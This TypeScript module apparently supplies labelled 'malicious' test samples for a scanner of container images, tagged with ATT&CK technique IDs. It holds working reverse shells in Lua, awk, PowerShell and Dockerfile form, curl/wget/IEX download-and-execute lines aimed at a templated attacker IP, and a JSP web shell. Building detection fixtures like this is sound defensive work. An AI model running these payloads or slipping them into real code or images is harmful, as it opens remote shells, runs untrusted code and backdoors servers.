import { type Payload, payloads } from '../payload.ts';

/** Behaviours in the languages that are rarer in images. */
export const further: readonly Payload[] = [
  ...payloads('lua', 'EXE-REVSH', [
    [
      'lua-rev',
      'malicious',
      'T1059.004 T1059.011',
      (p) =>
        `local socket = require("socket")\nlocal tcp = socket.tcp()\ntcp:connect("${p.ip}", ${p.port})\nwhile true do\n  local cmd = tcp:receive()\n  local f = io.popen(cmd, "r")\n  local s = f:read("*a")\n  f:close()\n  tcp:send(s)\nend\n`,
    ],
    [
      'lua-rev-exec',
      'malicious',
      'T1059.004 T1059.011',
      (p) => `os.execute("bash -c 'bash -i >& /dev/tcp/${p.ip}/${p.port} 0>&1'")\n`,
    ],
  ]),
  ...payloads('lua', 'EXE-DLEXEC', [
    ['lua-dl', 'malicious', 'T1105', (p) => `os.execute("wget -qO- http://${p.ip}/x | sh")\n`],
  ]),
  ...payloads('awk', 'EXE-REVSH', [
    [
      'awk-rev',
      'malicious',
      'T1059.004',
      (p) =>
        `BEGIN {\n  s = "/inet/tcp/0/${p.ip}/${p.port}"\n  while (1) {\n    printf "> " |& s\n    if ((s |& getline c) <= 0) break\n    while (c && (c |& getline) > 0) print $0 |& s\n    close(c)\n  }\n}\n`,
    ],
  ]),
  ...payloads('awk', 'EXE-DLEXEC', [
    ['awk-dl', 'malicious', 'T1105', (p) => `BEGIN { system("curl -s http://${p.ip}/a | sh") }\n`],
  ]),
  ...payloads('powershell', 'EXE-DLEXEC', [
    ['ps-iex', 'malicious', 'T1105', (p) => `IEX (New-Object Net.WebClient).DownloadString('http://${p.ip}/a.ps1')\n`],
    [
      'ps-webrequest',
      'malicious',
      'T1105',
      (p) => `Invoke-WebRequest -Uri http://${p.ip}/b -OutFile /tmp/b\nchmod +x /tmp/b\n& /tmp/b\n`,
    ],
  ]),
  ...payloads('powershell', 'EXE-REVSH', [
    [
      'ps-rev',
      'malicious',
      'T1059.001 T1059.004',
      (p) =>
        `$c = New-Object System.Net.Sockets.TCPClient('${p.ip}', ${p.port})\n$s = $c.GetStream()\n[byte[]]$b = 0..65535 | % { 0 }\nwhile (($i = $s.Read($b, 0, $b.Length)) -ne 0) {\n  $d = (New-Object Text.ASCIIEncoding).GetString($b, 0, $i)\n  $r = (iex $d 2>&1 | Out-String)\n  $o = [Text.Encoding]::ASCII.GetBytes($r)\n  $s.Write($o, 0, $o.Length)\n}\n`,
    ],
  ]),
  ...payloads('java', 'EXE-WEBSHELL', [
    [
      'jsp-webshell',
      'malicious',
      'T1505.003',
      () =>
        `<%@ page import="java.io.*" %>\n<% String cmd = request.getParameter("cmd");\nif (cmd != null) { Process p = Runtime.getRuntime().exec(cmd); } %>\n`,
    ],
  ]),
  ...payloads('java', 'EXE-DLEXEC', [
    [
      'jsp-dl',
      'malicious',
      'T1105',
      (p) => `<% Runtime.getRuntime().exec(new String[] {"/bin/sh", "-c", "curl -s http://${p.ip}/x | sh"}); %>\n`,
    ],
  ]),
  ...payloads('dockerfile', 'EXE-DLEXEC', [
    [
      'df-cmd',
      'malicious',
      'T1105',
      (p) => `FROM debian:12\nRUN apt-get update && apt-get install -y curl\nCMD curl -s http://${p.ip}/x.sh | bash\n`,
    ],
  ]),
  ...payloads('dockerfile', 'EXE-REVSH', [
    [
      'df-entrypoint',
      'malicious',
      'T1059.004',
      (p) => `FROM debian:12\nENTRYPOINT ["bash", "-c", "bash -i >& /dev/tcp/${p.ip}/${p.port} 0>&1"]\n`,
    ],
  ]),
];
